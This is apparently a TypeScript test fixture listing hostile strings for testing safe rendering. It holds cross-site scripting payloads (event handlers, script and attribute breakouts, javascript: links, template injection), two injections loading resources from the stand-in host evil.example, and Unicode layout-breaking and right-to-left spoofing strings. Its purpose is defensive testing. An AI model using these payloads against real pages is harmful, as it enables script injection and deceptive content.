/** Texts that somebody else wrote, made to do harm where a screen shows them: to run, to lead away, to break its layout, to turn its amounts round. */

/** What any of them would do if it ran. */
export const RUN = 'window.__ran=1';

/** One per way in which a text becomes a program: as an element, out of an attribute, out of a script's JSON, as an address, as a template. */
export const PROGRAMS = [
  `<img src=x onerror="${RUN}">`,
  `"><svg onload="${RUN}">`,
  `</script><script>${RUN}</script>`,
  `' onmouseover='${RUN}' x='`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<!--</script><script>${RUN}//-->`,
  `[open](javascript:${RUN})`,
  `{{constructor.constructor('${RUN}')()}}`,
  `</style><link rel=stylesheet href=//evil.example/a.css>`,
  `</textarea><base href=//evil.example/>`,
] as const;

/** Words without a place to break, invisible, stacked, wide, from right to left. */
export const SHAPES = [
  'W'.repeat(180),
  'Pay\u200bPal\u200d\u2060\ufeff \u00ad\u00ad\u00ad',
  `Z${'\u0335\u0321\u0489'.repeat(30)}algo`,
  '👩‍👩‍👧‍👦🏳️‍🌈'.repeat(20),
  'שלום עולם مرحبا بالعالم',
  '\ufdfd\ufdfd\ufdfd 𒐫𒐫𒐫𒐫',
] as const;

/** Would turn whatever stands behind them, amounts included. */
export const TURNED = ['\u202egnp.exe invoice', 'Rent \u2066\u2067ltd'] as const;

export const HOSTILE_TEXTS: readonly string[] = [...PROGRAMS, ...SHAPES, ...TURNED];
